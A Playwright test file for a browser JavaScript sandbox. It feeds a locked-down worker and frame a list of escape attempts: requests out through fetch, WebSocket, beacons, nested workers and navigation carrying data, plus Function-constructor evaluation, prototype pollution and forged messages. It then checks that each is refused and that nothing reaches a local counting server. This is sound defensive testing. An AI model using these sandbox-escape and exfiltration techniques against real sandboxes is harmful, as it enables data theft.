// Arbitrary JavaScript in the sandbox's worker gets nowhere. The same build steps as the page's make a small page whose
// worker runs whatever text it is sent, after the same lockdown; a local server counts what arrives (nothing may).
import { expect, type Page, test } from "@playwright/test"
import { serve } from "../served.ts"
import { type CountingServer, countRequests } from "./counting-server.ts"

let outside: CountingServer
let served: Awaited<ReturnType<typeof serve>>
let page: Page

test.beforeAll(async ({ browser }) => {
  outside = await countRequests()
  served = await serve("e2e/sandbox/index.html", "e2e/sandbox/attack-worker.ts")
  page = await browser.newPage()
  await page.goto(served.address)
  await page.waitForFunction(() => window.attackable?.heard.length > 0, null, { timeout: 10_000 })
})

test.afterAll(async () => {
  await page?.close()
  await served?.close()
  await outside?.close()
})

const attack = (text: string) => page.evaluate((sent) => window.attackable.attack(sent), text)

/** What the attack came to: its value, or the error that refused it. */
async function outcome(text: string): Promise<string> {
  const { value, refused } = await attack(text)
  return refused ?? `gave ${value}`
}

test("the worker starts, removes every other global, and loads its later parts", async () => {
  const first = await page.evaluate(() => window.attackable.heard[0])
  expect(first).toEqual({ left: [], part: "a part at 1970-01-02T00:00:00.000Z" })
  expect(await outcome("return [1, 2, 3].map((n) => n * 2).join()")).toBe("gave 2,4,6")
})

test("no request leaves, by any interface a worker has", async () => {
  const at = (path: string) => JSON.stringify(`${outside.origin}${path}`)
  const attacks = [
    `await fetch(${at("/fetch")})`,
    `const r = new XMLHttpRequest(); r.open("GET", ${at("/xhr")}, false); r.send()`,
    `new WebSocket(${at("/socket")}.replace("http", "ws"))`,
    `importScripts(${at("/script")})`,
    `await import(${at("/module")})`,
    `await import("data:text/javascript,export default 1")`,
    `navigator.sendBeacon(${at("/beacon")}, "x")`,
    `new EventSource(${at("/events")})`,
    `new WebTransport(${at("/transport")})`,
    `new Worker(${at("/worker")})`,
    `new Worker("data:text/javascript,fetch(${at("/nested")})")`,
    `new SharedWorker(${at("/shared")})`,
    `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:1" }] })`,
    `await new FontFace("x", "url(" + ${at("/font")} + ")").load()`,
    `new Request(${at("/request")})`,
    `await WebAssembly.compileStreaming(fetch(${at("/wasm")}))`,
    `location.href = ${at("/navigate")}`,
    `self.location.assign(${at("/navigate")})`,
    `open(${at("/open")})`,
  ]
  for (const text of attacks) expect(await outcome(text), text).toMatch(/^(ReferenceError|TypeError|SyntaxError|EvalError): /)
  expect(outside.arrived).toEqual([])
})

test("the policy alone refuses them, before anything is removed from the global", async ({ browser }) => {
  // The same frame and policy around a worker without our lockdown: the outer wall stands by itself.
  const bare = await browser.newPage()
  await bare.goto(served.address)
  await bare.waitForFunction(() => window.attackable?.heard.length > 0)
  const results = await bare.evaluate(
    (origin) =>
      new Promise<string[]>((resolve) => {
        const own = document.querySelector("iframe")
        const frame = document.createElement("iframe")
        frame.setAttribute("sandbox", "allow-scripts")
        frame.srcdoc = own?.srcdoc ?? ""
        const line = new MessageChannel()
        const reports = new MessageChannel()
        reports.port1.onmessage = ({ data }) => resolve([`frame: ${data}`])
        line.port1.onmessage = ({ data }) => resolve(data as string[])
        const text = `
          const found = []
          const attempt = async (name, run) => {
            try { await run(); found.push(name + " passed") } catch (error) { found.push(name + " " + error.name) }
          }
          addEventListener("message", async ({ ports: [port] }) => {
            const origin = ${JSON.stringify(origin)}
            await attempt("fetch", () => fetch(origin + "/bare-fetch"))
            await attempt("xhr", () => { const r = new XMLHttpRequest(); r.open("GET", origin + "/bare-xhr", false); r.send() })
            await attempt("importScripts", () => importScripts(origin + "/bare-script"))
            await attempt("import", () => import(origin + "/bare-module"))
            await attempt("socket", () => new Promise((done, failed) => {
              const socket = new WebSocket(origin.replace("http", "ws") + "/bare-socket")
              socket.onopen = done
              socket.onerror = () => failed(new TypeError("refused"))
            }))
            await attempt("events", () => new Promise((done, failed) => {
              const events = new EventSource(origin + "/bare-events")
              events.onopen = done
              events.onerror = () => failed(new TypeError("refused"))
            }))
            await attempt("eval", () => eval("1"))
            await attempt("Function", () => new Function("return 1")())
            await attempt("indexedDB", () => new Promise((done, failed) => {
              const open = indexedDB.open("x")
              open.onsuccess = done
              open.onerror = () => failed(open.error)
            }))
            await attempt("caches", () => caches.open("x"))
            await attempt("storage", () => navigator.storage.getDirectory())
            port.postMessage(found)
          })`
        frame.onload = () =>
          frame.contentWindow?.postMessage({ chunks: [{ name: "entry", text, imports: [] }], entry: "entry" }, "*", [
            line.port2,
            reports.port2,
          ])
        document.body.append(frame)
      }),
    outside.origin,
  )
  await bare.close()
  expect(results).toHaveLength(11)
  for (const result of results) expect(result).not.toContain("passed")
  expect(outside.arrived).toEqual([])
})

test("no storage, no page, no other tab", async () => {
  const names =
    "indexedDB caches localStorage sessionStorage cookieStore document window parent top frames opener self navigator location origin " +
    "BroadcastChannel MessageChannel MessagePort postMessage onmessage addEventListener removeEventListener dispatchEvent close name " +
    "Worker SharedWorker ServiceWorker XMLHttpRequest fetch WebSocket EventSource Request Response Headers FileReader Blob File crypto " +
    "performance setTimeout setInterval queueMicrotask requestAnimationFrame scheduler Notification Atomics SharedArrayBuffer WeakRef " +
    "FinalizationRegistry Intl WebAssembly eval OffscreenCanvas ImageData createImageBitmap reportError trustedTypes"
  for (const name of names.split(" ")) expect(await outcome(`return typeof ${name}`), name).toBe("gave undefined")
  expect(await outcome("return typeof globalThis.constructor.name")).not.toContain("WorkerGlobalScope")
  expect(
    await outcome("return Object.getOwnPropertyNames(globalThis).filter((name) => /^(on|webkit|Dedicated|Worker|URL$)/.test(name))"),
  ).toBe("gave URL")
  expect(await outcome("return typeof URL.createObjectURL")).toBe("gave undefined")
})

test("no code from text", async () => {
  for (const text of [
    `return new Function("return 1")()`,
    `return Function("return 1")()`,
    `return (() => {}).constructor("return 1")()`,
    `return (async () => {}).constructor("return 1")()`,
    `return (function* () {}).constructor("return 1")()`,
    `return (async function* () {}).constructor("return 1")()`,
    `return Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, ["return 1"])`,
    `return [].map.constructor("return 1")()`,
  ]) {
    expect(await outcome(text), text).toBe("EvalError: code from text is not available here")
  }
  expect(await outcome(`return eval("1 + 1")`)).toMatch(/^ReferenceError|^EvalError/)
})

test("built-ins cannot be changed, and nothing is left behind for the next program", async () => {
  for (const text of [
    `Object.prototype.polluted = 1`,
    `Array.prototype.push = () => 0`,
    `Map.prototype.get = () => 0`,
    `Promise.prototype.then = () => 0`,
    `Object.getPrototypeOf(function* () {}.prototype).next = () => 0`,
    `Object.getPrototypeOf([][Symbol.iterator]()).next = () => 0`,
    `Object.prototype.toString = () => "x"`,
    `Error.prototype.message = "x"`,
    `JSON.stringify = () => "x"`,
    `Math.floor = () => 7`,
    `Date.now = () => 7`,
    `globalThis.left = 1`,
    `globalThis.Map = null`,
    `console.log = () => {}`,
    `Object.defineProperty(String.prototype, "length", { value: 1 })`,
    `Object.setPrototypeOf(Array.prototype, { stolen: 1 })`,
    `Error.stackTraceLimit = 10`,
    `[].constructor.prototype.at = () => 0`,
    `({}).constructor.assign = () => 0`,
  ]) {
    expect(await outcome(text), text).toMatch(/^TypeError: /)
  }
  expect(await outcome(`const o = {}; o["__proto__"] = { polluted: 1 }; return Object.keys(o).join() + ({}).polluted`)).toBe(
    "gave __proto__undefined",
  )
  expect(await outcome(`"ab".match(/(a)(b)/); return String(RegExp.$1) + RegExp.lastMatch`)).toBe("gave undefinedundefined")
})

test("ordinary programs still do what they do", async () => {
  const text = `
    class TooBig extends Error { constructor(n) { super("too big: " + n); this.name = "TooBig"; this.n = n } }
    const o = { toString() { return "mine" } }
    const p = {}; p.toString = () => "assigned"; p.constructor = 3; p.valueOf = () => 4
    function Old() {} Old.prototype.toString = () => "old"
    let caught
    try { throw new TooBig(3) } catch (error) { caught = error instanceof TooBig && error instanceof Error && String(error) }
    const later = await Promise.all([1, 2].map(async (n) => n + 1))
    return [String(o), String(p), p.constructor, p + 1, String(new Old()), caught, later, new URL("http://a/b?c=1").searchParams.get("c"),
      new TextDecoder().decode(new TextEncoder().encode("é")), structuredClone({ a: [1] }).a[0], JSON.stringify({ a: new Map([[1, 2]]).get(1) })].join("|")`
  expect(await outcome(text)).toBe('gave mine|assigned|3|5|old|TooBig: too big: 3|2,3|1|é|1|{"a":2}')
})

test("no clock, no zone, no locale, no chance, no host arithmetic", async () => {
  expect(await outcome("return [Date.now(), new Date().getTime(), Date()].join()")).toBe(
    "gave 86400000,86400000,Fri Jan 02 1970 00:00:00 GMT+0000 (Coordinated Universal Time)",
  )
  expect(await outcome("return new (new Date(0).constructor)().getTime()")).toBe("gave 86400000")
  expect(
    await outcome(
      "return [new Date(2026, 0, 2, 3).toISOString(), new Date('2026-01-02T03:04').toJSON(), new Date('2026-01-02').getHours(), new Date(0).getTimezoneOffset()].join()",
    ),
  ).toBe("gave 2026-01-02T03:00:00.000Z,2026-01-02T03:04:00.000Z,0,0")
  expect(
    await outcome(
      "return [Date.parse('Jan 2 2026'), Date.parse(new Date(5000).toString()), Date.parse(new Date(5000).toUTCString())].join()",
    ),
  ).toBe("gave NaN,5000,5000")
  for (const text of [
    "Math.random()",
    "Math.exp(1)",
    "(1.5).toLocaleString()",
    "'a'.localeCompare('b')",
    "new Date().toLocaleDateString()",
    "console.memory.usedJSHeapSize",
    "new Error('x').stack.match(/blob:/)[0]",
  ]) {
    expect(await outcome(`return ${text}`), text).toMatch(/^TypeError: /)
  }
})

test("messages cannot be forged", async () => {
  const before = await page.evaluate(() => window.attackable.heard.length)
  for (const text of [
    `postMessage({ type: "ended" })`,
    `self.postMessage({ type: "ended" })`,
    `globalThis.__proto__.postMessage({ type: "ended" })`,
    `const up = Object.getPrototypeOf(Object.getPrototypeOf(globalThis)); new up.constructor().postMessage("x")`,
    `const { port1 } = structuredClone({ port1: new MessageChannel().port1 }); port1.postMessage("x")`,
    `dispatchEvent(new MessageEvent("message", { data: 1 }))`,
  ]) {
    expect(await outcome(text), text).toMatch(/^(ReferenceError|TypeError): /)
  }
  const heard = await page.evaluate((from) => window.attackable.heard.slice(from), before)
  expect(heard.every((message) => "attack" in (message as object))).toBe(true)
})

test("the frame's document reaches neither the page nor the network", async () => {
  const frame = page.frames().find((one) => one !== page.mainFrame())
  expect(frame).toBeDefined()
  const tried = await frame?.evaluate(async (origin) => {
    const results: string[] = []
    const attempt = async (run: () => unknown) => {
      try {
        await run()
        results.push("passed")
      } catch {
        results.push("refused")
      }
    }
    await attempt(() => fetch(`${origin}/frame-fetch`))
    await attempt(() => parent.document.title)
    await attempt(() => localStorage.length)
    await attempt(() => document.cookie)
    await attempt(() => indexedDB.open("x"))
    return results
  }, outside.origin)
  expect(tried).toEqual(["refused", "refused", "refused", "refused", "refused"])
  expect(await frame?.evaluate(() => origin)).toBe("null")
  // A frame that navigates itself could carry data in the address; the page's policy refuses the address.
  const refusal = page.evaluate(
    () =>
      new Promise<string>((told) =>
        document.addEventListener("securitypolicyviolation", (event) => told(event.effectiveDirective), { once: true }),
      ),
  )
  await frame?.evaluate((origin) => {
    location.href = `${origin}/leak?secret`
  }, outside.origin)
  expect(await refusal).toBe("frame-src")
  expect(outside.arrived).toEqual([])
})

test("throwing the sandbox away ends an endless loop, and another one starts", async () => {
  await page.goto(served.address)
  await page.waitForFunction(() => window.attackable?.heard.length > 0)
  const begins = page.waitForEvent("console", (message) => message.text() === "begun")
  await page.evaluate(() => {
    void window.attackable.attack(`console.log("begun"); for (;;) {}`)
  })
  await begins
  expect(page.workers()).toHaveLength(1)
  await page.evaluate(() => window.attackable.dispose())
  await expect.poll(() => page.workers().length).toBe(0)
  await page.evaluate(() => {
    window.attackable.heard = []
    return window.attackable.reopen()
  })
  await page.waitForFunction(() => window.attackable.heard.length > 0)
  expect(await outcome("return 1")).toBe("gave 1")
  expect(await page.evaluate(() => window.attackable.closed)).toEqual([])
})
